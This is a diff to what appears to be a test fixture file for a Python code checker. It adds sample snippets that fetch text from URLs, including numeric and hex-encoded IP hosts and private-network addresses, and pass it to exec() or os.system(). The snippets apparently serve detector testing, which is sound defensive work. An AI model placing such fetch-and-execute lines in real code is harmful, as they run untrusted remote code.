@@ -32,6 +32,8 @@ class Feed:
     "a host that begins as this machine's": "def go():\n    exec(requests.get('http://localhost.example.invalid/').text)\n",
     "a user called as this machine": "def go():\n    exec(requests.get('http://127.0.0.1@example.invalid/').text)\n",
     "a host put together": "def go(host):\n    exec(requests.get(f'http://127.0.0.1.{host}/').text)\n",
+    "a number for a host": "def go():\n    exec(requests.get('http://3221226219/x').text)\n    exec(requests.get('http://0xc000022b/').text)\n",
+    "a host that begins as a network's": "def go(host):\n    exec(requests.get('http://10.0.0.1.example.invalid/').text)\n    exec(requests.get(f'http://10.0.0.{host}/').text)\n",
     "no path": "def go():\n    exec(requests.get('//example.invalid/x').text)\n",
     "a path of another machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='https://c.example.invalid')\n    exec(c.get('/x').text)\n",
     "a name that was another's": "fetch = print\nfetch = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
@@ -122,6 +124,7 @@ ONLY_READ = {
     "its own table": "TABLE = {'a': 'ls'}\ndef go():\n    os.system(TABLE[requests.get(URL).text])\n    os.system(TABLE.get(requests.get(URL).text))\n",
     "a status": "def go():\n    exec(f'x = {requests.get(URL).status_code}')\n    exec(str(len(requests.get(URL).text)))\n",
     "this machine": "def go():\n    exec(requests.get('http://localhost:8080/x').text)\n\nHERE = 'http://127.0.0.1'\ndef run(n):\n    exec(requests.get(HERE).text)\n    exec(requests.get(f'http://localhost:{n}/').text)\n",
+    "this network": "HERE = 'http://10.0.0.7:9000'\nBASE = f'{HERE}/api'\ndef run(n):\n    exec(requests.get(f'{HERE}/{n}').text)\n    exec(requests.get(BASE + '/x').text)\n    exec(requests.get('http://printer.local/x').text)\n    exec(requests.get('http://worker:8000/x').text)\n",
     "a path of this machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='http://localhost:8000')\n    exec(c.get('/x').text)\n",
     "who listens": """
 import socket
